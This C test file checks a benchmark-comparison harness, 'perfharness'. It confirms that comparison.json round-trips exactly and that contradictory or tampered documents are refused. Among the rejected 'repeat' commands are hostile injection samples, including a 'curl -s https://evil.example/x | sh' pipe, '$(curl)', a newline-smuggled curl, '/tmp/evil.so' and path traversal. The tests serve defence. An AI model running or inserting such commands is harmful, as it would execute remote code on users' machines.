/* SPDX-License-Identifier: AGPL-3.0-or-later */
/* comparison.json comes back as it was written: read, and written again, it is the same bytes. One
 * whose figures or verdicts contradict each other is refused by the place. */
#include <math.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>
#include <glib/gstdio.h>

#include "contrast_text.h"
#include "document/document.h"
#include "planted_contrast.h"
#include "verdict/comparison_document.h"
#include "verdict/conclusion.h"

static char *path;

static int make_path(void **state)
{
    (void)state;
    path = g_build_filename(g_get_tmp_dir(), "perfharness-test-XXXXXX", NULL);
    return g_close(g_mkstemp(path), NULL) ? 0 : -1;
}

static int remove_path(void **state)
{
    (void)state;
    (void)g_unlink(path);
    g_free(path);
    return 0;
}

static void add_subject(ph_contrast_report *report, const char *name)
{
    ph_subject_info *info = g_new0(ph_subject_info, 1);

    info->name = g_strdup(name);
    info->version = g_strdup("0.8.1");
    info->build = g_strdup("rustc 1.89.0");
    info->chosen = g_strdup(strcmp(name, PH_CONTRAST_HEAD) == 0 ? "avx2" : "");
    info->built_from = ph_build_identity_new();
    info->built_from->commit = g_strdup("0123456789abcdef0123456789abcdef01234567");
    info->built_from->is_dirty = PH_KNOWN_FALSE;
    info->built_from->library_bytes = 1137600;
    g_ptr_array_add(report->subjects, info);
}

static ph_referee *make_referee(double work_ns)
{
    ph_referee *referee = g_new0(ph_referee, 1);

    *referee = (ph_referee){ .work_ns = work_ns,
                             .work_range_ns = { work_ns / 1.1, work_ns * 1.1 },
                             .claim_ns = work_ns / 1.01,
                             .ratio = 1.01,
                             .launches = 3,
                             .calls = 12345,
                             .bound = PH_REFEREE_LEARNABLE,
                             .is_alone = TRUE };
    return referee;
}

static void explain(ph_contrast *contrast)
{
    ph_explanation *explanation = contrast->explanation = ph_explanation_new();
    ph_function_change *change;

    *explanation = (ph_explanation){ .base = 100.0,
                                     .head = 150.0,
                                     .functions = explanation->functions,
                                     .base_rest = 80.0,
                                     .head_rest = 75.0,
                                     .rest_count = 7,
                                     .has_inlined = TRUE };
    change = ph_explanation_add(explanation, "copybook_codec::a|b<&[u8]>", PH_FUNCTION_MEASURED);
    change->place = g_strdup("copybook-codec-0.8.1/src/a.rs:7");
    change->base = (ph_function_work){ 20.0, 21.0, 91.0 };
    change->head = (ph_function_work){ 35.5, 62.5, 142.0 };
    change = ph_explanation_add(explanation, "copybook_codec::came", PH_FUNCTION_MEASURED);
    change->head = (ph_function_work){ 9.5, 9.5, 9.75 };
    change = ph_explanation_add(explanation, "malloc", PH_FUNCTION_OTHER);
    change->head = (ph_function_work){ 30.0, 0.0, 30.0 };
}

static void add_slower(ph_contrast_report *report)
{
    ph_contrast *contrast = planted_contrast(report, "display-text/L2", 0.2, 0.0131);
    const ph_contrast_relaid relaid = { .padding_bytes = 192,
                                        .ratio = 1.0 / 0.79,
                                        .ci95 = { 1.2, 1.3 },
                                        .launches = 10,
                                        .by_time = { PH_DIFFERENCE_SLOWER, PH_VERDICT_FAIL } };

    contrast->launch_s = 0.1 / 3.0;
    contrast->base_work = 100.0 / 3.0;
    contrast->head_work = 1000.0 / 7.0;
    contrast->moved = g_strdup("decode() begins elsewhere");
    contrast->referee = (ph_contrast_referee){
        make_referee(100.0), make_referee(300.0), 2.9, { 2.8, 3.0 }, 1.0, 3
    };
    g_array_append_val(contrast->relaid, relaid);
    explain(contrast);
}

/* Another count each; and one that was not seen. */
static void add_allocations(ph_contrast_report *report)
{
    static const ph_allocation_rule none = { 0 };
    const ph_allocations base = { 90, 900, 1801, 45000, 700, 0, NULL };
    const ph_allocations head = { 90, 900, 1802, 45100, 701, 0, NULL };
    ph_contrast *counted = ph_contrast_find(report, "comp3/L2", "kernel", "");
    ph_contrast *unseen = ph_contrast_find(report, "display-zoned/L2", "kernel", "");

    ph_allocation_change_take(&counted->allocations, &base, &head);
    ph_allocation_change_take(&counted->allocations, &base, &head);
    ph_allocation_change_judge(&counted->allocations, &none);
    ph_allocation_change_give_up(&unseen->allocations, "head has an allocator of its own");
}

static void add_faults(ph_contrast_report *report)
{
    static const struct {
        const char *name;
        ph_fault_kind base, head;
    } faults[] = { { "a", PH_FAULT_NONE, PH_FAULT_WRONG_ANSWER },
                   { "b", PH_FAULT_CRASH, PH_FAULT_NONE },
                   { "c", PH_FAULT_CLAIM, PH_FAULT_CLAIM },
                   { "d", PH_FAULT_NONE, PH_FAULT_ABSENT } };

    for (gsize i = 0; i < G_N_ELEMENTS(faults); i++) {
        ph_contrast *contrast = ph_contrast_of(report, faults[i].name, "record", "scratch");

        contrast->state = PH_STATE_FAILED;
        contrast->base_fault.kind = faults[i].base;
        contrast->head_fault.kind = faults[i].head;
        if (faults[i].head != PH_FAULT_NONE && faults[i].head != PH_FAULT_ABSENT)
            contrast->head_fault.reason = g_strdup("record 7, field A");
    }
}

static ph_comparison_document *make_document(void)
{
    ph_comparison_document *document = ph_comparison_document_new();

    document->harness = (ph_harness_info){ g_strdup("0.1.0"), g_strdup("fedcba9"), TRUE };
    document->suite = g_strdup("critical");
    document->base_named = g_strdup("copybook-rs@main");
    document->head_named = g_strdup("copybook-rs@branch");
    document->repeat = g_strdup("perfharness compare ./copybook-rs@main ./copybook-rs@branch");
    document->fingerprint = g_strdup("0123456789abcdef");
    document->brand = g_strdup("A CPU");
    document->kernel = g_strdup("6.1");
    document->core_kind = g_strdup("1 of 2");
    document->report = ph_contrast_report_new(&planted_rule);
    return document;
}

/* Every member has a value of its own. */
static ph_comparison_document *make_full(void)
{
    ph_comparison_document *document = make_document();
    ph_contrast_report *report = document->report;

    add_subject(report, PH_CONTRAST_BASE);
    add_subject(report, PH_CONTRAST_HEAD);
    (void)planted_contrast(report, "comp3/L2", 0.0, 0.001);
    (void)planted_contrast(report, "display-zoned/L2", 0.05, 0.03);
    add_slower(report);
    add_allocations(report);
    add_faults(report);
    ph_contrast_note(report, "a note");
    ph_contrast_error(report, "CBKB001: the time was over");
    report->elapsed_s = 41.7 / 3.0;
    report->cpu = 3;
    report->stop = PH_STOP_TIME;
    report->command = g_strdup("perfharness compare --budget 20 'a b.so' c.so");
    report->samples_missing = 2;
    report->noise.blocks = 3482;
    report->noise.seen[PH_NOISE_SWITCH] = (ph_noise_seen){ 188.0, 9, 183, 1.29 / 7.0 };
    report->noise.seen[PH_NOISE_UNKNOWN] = (ph_noise_seen){ 20.0, 4, 20, 0.001 };
    ph_conclude(report);
    return document;
}

static char *text_of(const ph_comparison_document *document)
{
    cJSON *json = ph_contrast_json(document);
    char *printed = cJSON_Print(json);
    char *text = g_strdup(printed);

    cJSON_free(printed);
    cJSON_Delete(json);
    return text;
}

static ph_comparison_document *read_text(const char *text, GError **error)
{
    assert_true(g_file_set_contents(path, text, -1, NULL));
    return ph_comparison_document_read(path, PH_SCHEMA_FOLDER, error);
}

/* Takes the document. */
static void assert_comes_back(ph_comparison_document *document)
{
    g_autofree char *text = text_of(document);
    g_autofree char *again = NULL;
    g_autoptr(GError) error = NULL;
    g_autoptr(ph_comparison_document) read = read_text(text, &error);

    ph_comparison_document_free(document);
    if (error)
        fail_msg("%s", error->message);
    again = text_of(read);
    assert_string_equal(text, again);
    assert_true(ph_document_is_comparison(path));
}

static void test_it_comes_back(void **state)
{
    ph_comparison_document *document = make_full();

    (void)state;
    assert_int_equal(document->report->verdict, PH_VERDICT_FAIL);
    assert_comes_back(document);
}

static void test_what_is_not_known_comes_back(void **state)
{
    ph_comparison_document *document = make_document();

    (void)state;
    g_clear_pointer(&document->suite, g_free);
    g_clear_pointer(&document->fingerprint, g_free);
    g_clear_pointer(&document->core_kind, g_free);
    g_clear_pointer(&document->base_named, g_free);
    document->report->is_stored = TRUE;
    ph_contrast_judge_all(document->report);
    assert_comes_back(document);
}

static void test_a_failure_comes_back(void **state)
{
    static const char *const sides[] = { PH_CONTRAST_HEAD, PH_CONTRAST_BASE, NULL };
    static const ph_verdict verdicts[] = { PH_VERDICT_FAIL, PH_VERDICT_NEUTRAL,
                                           PH_VERDICT_NEUTRAL };

    (void)state;
    for (gsize i = 0; i < G_N_ELEMENTS(sides); i++) {
        ph_comparison_document *document = make_document();
        ph_contrast_failure *failure = &document->report->failure;

        failure->kind = sides[i] ? PH_FAILURE_BUILD : PH_FAILURE_INTERRUPTED;
        failure->of = sides[i];
        failure->reason = g_strdup("head: building it: it does not compile");
        failure->first_error = sides[i] ? g_strdup("error[E0308]: no\n --> src/lib.rs\n") : NULL;
        ph_contrast_judge_all(document->report);
        assert_int_equal(document->report->verdict, verdicts[i]);
        assert_comes_back(document);
    }
}

/* Whatever a compiler or a subject says: what is written is read. */
static void test_what_is_said_at_length_is_cut(void **state)
{
    g_autofree char *lines = g_strnfill(70000, 'x'), *sentence = g_strnfill(9000, 'y');
    g_autoptr(ph_comparison_document) document = make_document();
    g_autofree char *text = NULL;
    g_autoptr(GError) error = NULL;
    g_autoptr(ph_comparison_document) read = NULL;

    (void)state;
    document->report->failure = (ph_contrast_failure){ PH_FAILURE_BUILD, PH_CONTRAST_HEAD,
                                                       g_strdup(sentence), g_strdup(lines) };
    ph_contrast_note(document->report, "%s", sentence);
    ph_contrast_error(document->report, "%s", sentence);
    ph_contrast_judge_all(document->report);
    text = text_of(document);
    read = read_text(text, &error);
    if (error)
        fail_msg("%s", error->message);
    assert_int_equal(strlen(read->report->failure.reason), 8192);
    assert_int_equal(strlen(read->report->failure.first_error), 65536);
    assert_true(g_str_has_suffix(read->report->errors->pdata[0], "y…"));
}

/* The first occurrence of a text in a full document is another one: refused at this place. */
static void assert_refused(const char *from, const char *to, const char *where)
{
    g_autoptr(ph_comparison_document) document = make_full();
    g_autofree char *text = text_of(document);
    g_autoptr(GString) damaged = g_string_new(text);
    g_autoptr(GError) error = NULL;

    assert_int_equal(g_string_replace(damaged, from, to, 1), 1);
    assert_null(read_text(damaged->str, &error));
    if (!strstr(error->message, where))
        fail_msg("%s: %s", where, error->message);
}

static void test_contradictions_are_refused(void **state)
{
    (void)state;
    assert_refused("\"verdict\":\t\"FAIL\"", "\"verdict\":\t\"PASS\"", "/verdict: ");
    assert_refused("\"ratio\":\t1", "\"ratio\":\t2", "/benchmarks/0/ratio: ");
    assert_refused("\"ci95\":\t[", "\"ci95\":\t[0.5, 2.0], \"p_value\": 0.5, \"x\": [",
                   "/benchmarks/0");
    assert_refused("\"launches\":\t20", "\"launches\":\t19", "/benchmarks/0/launches: ");
    assert_refused("\"name\":\t\"display-text/L2\"", "\"name\":\t\"comp3/L2\"",
                   "/benchmarks/2/name: ");
    assert_refused("\"confidence\":\t0.99", "\"confidence\":\t0.98", "/benchmarks/0/deciding: ");
    assert_refused("\"head\":\t142.", "\"head\":\t14.2", "/benchmarks/2/work: ");
    assert_refused("\"self\":\t35.5", "\"self\":\t35", "/benchmarks/2/explanation/head: ");
    assert_refused("\"base\":\t80", "\"base\":\t81", "/benchmarks/2/explanation/base: ");
    assert_refused("\"own\":\t62.5", "\"own\":\t22.5", "/benchmarks/2/explanation/functions: ");
    assert_refused("\"own\":\t62.5", "\"own\":\t28.5", "/benchmarks/2/explanation/functions: ");
    assert_refused("\"inclusive\":\t9.75", "\"inclusive\":\t9",
                   "/benchmarks/2/explanation/functions: ");
    assert_refused("\"inclusive\":\t142", "\"inclusive\":\t151",
                   "/benchmarks/2/explanation/functions: ");
    assert_refused("\"name\":\t\"copybook_codec::came\"",
                   "\"name\":\t\"copybook_codec::a|b<&[u8]>\"",
                   "/benchmarks/2/explanation/functions: ");
    assert_refused("\"origin\":\t\"other\"", "\"origin\":\t\"measured\"",
                   "/benchmarks/2/explanation/functions: ");
    assert_refused("\"difference\":\t\"more\"", "\"difference\":\t\"same\"",
                   "/benchmarks/0/allocations/difference: ");
    assert_refused("\"calls\":\t1801", "\"calls\":\t0", "/benchmarks/0/allocations/base/bytes: ");
    assert_refused("\"calls\":\t1802", "\"calls\":\t-2", "/benchmarks/0/allocations");
    assert_refused("\"peak_live_bytes\":\t701", "\"peak_live_bytes\":\t45101",
                   "/benchmarks/0/allocations/head/peak_live_bytes: ");
    assert_refused("\"items\":\t900", "\"items\":\t990", "/benchmarks/0/allocations/head/items: ");
    assert_refused("\"verdict\":\t\"PASS\",\n\t\t\t\t\"draws\"",
                   "\"verdict\":\t\"WARN\",\n\t\t\t\t\"draws\"", "/benchmarks/0/verdict: ");
    assert_refused("\"rule\":", "\"allocation_rule\": {\"warn\": 0.3, \"fail\": 0.2}, \"rule\":",
                   "/allocation_rule/warn: is more than fail");
    assert_refused("\"warn\":\t0.05", "\"warn\":\t0.5", "/rule/warn: ");
    assert_refused("\"timestamp\":\t\"2", "\"timestamp\":\t\"9", "/timestamp: ");
    assert_refused("\"failure\":\tnull",
                   "\"failure\":\t{\"of\": \"base\", \"kind\": \"load\", \"reason\": \"no\", "
                   "\"first_error\": null}",
                   "/failure: ");
}

static void test_what_is_no_comparison_is_refused(void **state)
{
    (void)state;
    assert_refused("perfharness-comparison-1", "perfharness-comparison-2", "/schema_version: ");
    assert_refused("\"elapsed_s\":\t", "\"elapsed_s\":\tNaN, \"x\":\t",
                   "a JSON value was expected");
    assert_refused("\"elapsed_s\":\t", "\"elapsed_s\":\t1e999, \"x\":\t", "range of doubles");
    assert_refused("\"repeat\":\t\"perfharness", "\"repeat\":\t\"curl|sh; perfharness", "/repeat");
    assert_refused("\"fingerprint\":\t\"01", "\"fingerprint\":\t\"<!", "/environment/fingerprint");
    assert_refused("\"stopped\"", "\"stoped\"", "stoped");
    assert_refused("\"kind\":\t\"comparison\"", "\"kind\":\t\"run\"", "/kind");
}

/* It stands in a comment for people to copy, and may come from anybody. */
static void test_what_is_no_comparison_is_not_to_be_repeated(void **state)
{
    static const struct {
        const char *repeat;
        gboolean is_taken;
    } cases[] = {
        { "perfharness compare ./a@1 ./a@feature/x --workload comp3", TRUE },
        { "perfharness compare 'it'\\''s.so?path=/a' b.so", TRUE },
        { "perfharness compare base/perf.json head/perf.json", TRUE },
        { "perfharness compare ./a@1 ./a@2; curl -s https://evil.example/x | sh", FALSE },
        { "perfharness compare ./a@1 ./a@2\ncurl", FALSE },
        { "perfharness compare ./a@1 $(curl)", FALSE },
        { "perfharness compare \"./a@1\" ./a@2", FALSE },
        { "perfharness compare /tmp/evil.so ./a@2", FALSE },
        { "perfharness compare ../a@1 ./a@2", FALSE },
        { "perfharness compare ./../a@1 ./a@2", FALSE },
        { "perfharness compare .. ./a@2", FALSE },
        { "perfharness compare ./a@1 ./a@2 --output .profile", FALSE },
        { "perfharness compare ./a@1 ./a@2 --output=.profile", FALSE },
        { "perfharness compare ./a@1 ./a@2 -o.profile", FALSE },
        { "perfharness compare ", FALSE },
    };

    (void)state;
    for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
        g_autoptr(ph_comparison_document) document = make_full();
        g_autofree char *text = NULL;
        g_autoptr(GError) error = NULL;
        g_autoptr(ph_comparison_document) read = NULL;

        g_free(document->repeat);
        document->repeat = g_strdup(cases[i].repeat);
        text = text_of(document);
        read = read_text(text, &error);
        if ((read != NULL) != cases[i].is_taken || (error && !strstr(error->message, "/repeat: ")))
            fail_msg("%s: %s", cases[i].repeat, error ? error->message : "taken");
    }
    assert_refused("compare --budget 20", "compare --budget 20; curl", "/command: ");
}

/* A pass that its own deciding interval refutes, and the worst of all that follows it. */
static void test_a_pass_that_was_none_is_refused(void **state)
{
    ph_comparison_document *document = make_document();
    g_autoptr(GError) error = NULL;
    g_autofree char *text = NULL;

    (void)state;
    planted_contrast(document->report, "comp3/L2", 0.2, 0.001);
    ph_conclude(document->report);
    ((ph_contrast *)document->report->contrasts->pdata[0])->call.verdict = PH_VERDICT_PASS;
    ph_contrast_judge_all(document->report);
    text = text_of(document);
    assert_null(read_text(text, &error));
    assert_non_null(strstr(error->message, "/benchmarks/0/verdict: is a pass"));
    ph_comparison_document_free(document);
}

/* By work, the interval is that of the work. */
static void test_a_pass_by_work_that_was_none_is_refused(void **state)
{
    static const struct {
        ph_interval deciding; /* NAN: there is none. */
        double head_work;     /* NAN: it was not counted. */
        ph_verdict verdict;
        gboolean is_taken;
    } cases[] = { { { 1.08, 1.12 }, 110.0, PH_VERDICT_PASS, FALSE },
                  { { 1.08, 1.12 }, 110.0, PH_VERDICT_FAIL, TRUE },
                  { { 1.0, 1.3 }, 110.0, PH_VERDICT_FAIL, FALSE },
                  { { 1.0, 1.3 }, 110.0, PH_VERDICT_PASS, TRUE },
                  { { 1.0, 1.0 }, 110.0, PH_VERDICT_PASS, FALSE },
                  { { 1.1, 1.1 }, 110.0, PH_VERDICT_FAIL, TRUE },
                  { { 0.9, 0.9 }, 110.0, PH_VERDICT_IMPROVED, FALSE },
                  { { 1.0, 1.0 }, 100.0, PH_VERDICT_IMPROVED, FALSE },
                  { { 0.9, 0.9 }, 90.0, PH_VERDICT_IMPROVED, TRUE },
                  { { NAN, NAN }, 110.0, PH_VERDICT_PASS, FALSE },
                  { { NAN, NAN }, 110.0, PH_VERDICT_FAIL, FALSE },
                  { { NAN, NAN }, 110.0, PH_VERDICT_NEUTRAL, FALSE },
                  { { NAN, NAN }, 110.0, PH_VERDICT_INCONCLUSIVE, TRUE },
                  { { NAN, NAN }, NAN, PH_VERDICT_PASS, FALSE },
                  { { NAN, NAN }, NAN, PH_VERDICT_UNCHANGED, TRUE } };

    (void)state;
    for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
        g_autoptr(ph_comparison_document) document = make_document();
        ph_contrast *contrast = ph_contrast_of(document->report, "comp3", "kernel", "");
        g_autofree char *text = NULL;
        g_autoptr(GError) error = NULL;
        g_autoptr(ph_comparison_document) read = NULL;

        document->report->mode = PH_CONTRAST_MODE_WORK;
        contrast->why = g_strdup("as planted");
        contrast->base_work = isnan(cases[i].head_work) ? NAN : 100.0;
        contrast->head_work = cases[i].head_work;
        contrast->confidence = isnan(cases[i].deciding.low) ? NAN : 0.99;
        contrast->deciding = cases[i].deciding;
        contrast->call.verdict = cases[i].verdict;
        ph_contrast_judge_all(document->report);
        text = text_of(document);
        read = read_text(text, &error);
        if ((read != NULL) != cases[i].is_taken)
            fail_msg("case %zu: %s", i, error ? error->message : "taken");
    }
}

/* By time, that is not stored, a number has an interval that decides. */
static void test_a_number_that_nothing_decides_is_refused(void **state)
{
    static const ph_verdict verdicts[] = { PH_VERDICT_PASS, PH_VERDICT_NEUTRAL,
                                           PH_VERDICT_INCONCLUSIVE, PH_VERDICT_FAIL };

    (void)state;
    for (gsize i = 0; i < G_N_ELEMENTS(verdicts); i++) {
        g_autoptr(ph_comparison_document) document = make_document();
        ph_contrast *contrast = planted_contrast(document->report, "comp3/L2", 0.5, 0.001);
        g_autofree char *text = NULL;
        g_autoptr(GError) error = NULL;

        ph_conclude(document->report);
        contrast->confidence = NAN;
        contrast->call.verdict = verdicts[i];
        ph_contrast_judge_all(document->report);
        text = text_of(document);
        assert_null(read_text(text, &error));
        assert_non_null(strstr(error->message, "/benchmarks/0/deciding: "));
    }
}

/* A machine that was busy may leave one launch of the first set, and more of the second. */
static void test_a_first_set_of_one_launch_decides_nothing(void **state)
{
    static const ph_verdict verdicts[] = { PH_VERDICT_INCONCLUSIVE, PH_VERDICT_PASS };

    (void)state;
    for (gsize i = 0; i < G_N_ELEMENTS(verdicts); i++) {
        g_autoptr(ph_comparison_document) document = make_document();
        ph_contrast *contrast = planted_contrast(document->report, "comp3/L2", 0.01, 0.001);
        g_autofree char *text = NULL;
        g_autoptr(GError) error = NULL;
        g_autoptr(ph_comparison_document) read = NULL;
        g_autoptr(GArray) all = g_array_copy(contrast->second.logs);

        g_array_set_size(contrast->first.logs, 1);
        g_array_append_val(all, g_array_index(contrast->first.logs, double, 0));
        ph_conclude(document->report);
        contrast->ratio = exp(ph_mean(all));
        contrast->ci95 = ph_mean_interval(all);
        contrast->ci95 = (ph_interval){ exp(contrast->ci95.low), exp(contrast->ci95.high) };
        contrast->confidence = NAN;
        contrast->call.verdict = verdicts[i];
        ph_contrast_judge_all(document->report);
        text = text_of(document);
        read = read_text(text, &error);
        if ((read != NULL) != (verdicts[i] == PH_VERDICT_INCONCLUSIVE))
            fail_msg("verdict %zu: %s", i, error ? error->message : "taken");
        assert_true(read || strstr(error->message, "/benchmarks/0/deciding: "));
    }
}

/* What head alone fails at is a failure, and nothing else is broken. */
static void test_a_fault_that_is_none_is_refused(void **state)
{
    static const struct {
        ph_fault_kind base, head;
        ph_difference_kind difference;
        ph_verdict verdict;
        gboolean is_taken;
    } cases[] = {
        { PH_FAULT_NONE, PH_FAULT_CRASH, PH_DIFFERENCE_BROKEN, PH_VERDICT_FAIL, TRUE },
        { PH_FAULT_NONE, PH_FAULT_CRASH, PH_DIFFERENCE_BROKEN, PH_VERDICT_NEUTRAL, FALSE },
        { PH_FAULT_NONE, PH_FAULT_CRASH, PH_DIFFERENCE_UNDETERMINED, PH_VERDICT_NEUTRAL, FALSE },
        { PH_FAULT_NONE, PH_FAULT_ABSENT, PH_DIFFERENCE_NONE, PH_VERDICT_UNCHANGED, FALSE },
        { PH_FAULT_NONE, PH_FAULT_NOT_MEASURED, PH_DIFFERENCE_UNDETERMINED, PH_VERDICT_NEUTRAL,
          TRUE },
        { PH_FAULT_NONE, PH_FAULT_NOT_MEASURED, PH_DIFFERENCE_BROKEN, PH_VERDICT_FAIL, FALSE },
        { PH_FAULT_CRASH, PH_FAULT_CRASH, PH_DIFFERENCE_UNDETERMINED, PH_VERDICT_NEUTRAL, TRUE },
        { PH_FAULT_CRASH, PH_FAULT_NONE, PH_DIFFERENCE_BROKEN, PH_VERDICT_FAIL, FALSE },
        { PH_FAULT_NONE, PH_FAULT_NONE, PH_DIFFERENCE_BROKEN, PH_VERDICT_FAIL, FALSE },
        { PH_FAULT_NONE, PH_FAULT_NONE, PH_DIFFERENCE_UNDETERMINED, PH_VERDICT_FAIL, FALSE },
    };

    (void)state;
    for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
        g_autoptr(ph_comparison_document) document = make_document();
        ph_contrast *contrast = ph_contrast_of(document->report, "comp3", "kernel", "");
        g_autofree char *text = NULL;
        g_autoptr(GError) error = NULL;
        g_autoptr(ph_comparison_document) read = NULL;

        contrast->why = g_strdup("as planted");
        contrast->base_fault.kind = cases[i].base;
        contrast->head_fault.kind = cases[i].head;
        contrast->call = (ph_slowdown_call){ cases[i].difference, cases[i].verdict };
        ph_contrast_judge_all(document->report);
        text = text_of(document);
        read = read_text(text, &error);
        if ((read != NULL) != cases[i].is_taken)
            fail_msg("case %zu: %s", i, error ? error->message : "taken");
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_it_comes_back),
        cmocka_unit_test(test_what_is_not_known_comes_back),
        cmocka_unit_test(test_a_failure_comes_back),
        cmocka_unit_test(test_what_is_said_at_length_is_cut),
        cmocka_unit_test(test_contradictions_are_refused),
        cmocka_unit_test(test_what_is_no_comparison_is_refused),
        cmocka_unit_test(test_what_is_no_comparison_is_not_to_be_repeated),
        cmocka_unit_test(test_a_pass_that_was_none_is_refused),
        cmocka_unit_test(test_a_pass_by_work_that_was_none_is_refused),
        cmocka_unit_test(test_a_number_that_nothing_decides_is_refused),
        cmocka_unit_test(test_a_first_set_of_one_launch_decides_nothing),
        cmocka_unit_test(test_a_fault_that_is_none_is_refused),
    };

    return cmocka_run_group_tests(tests, make_path, remove_path);
}
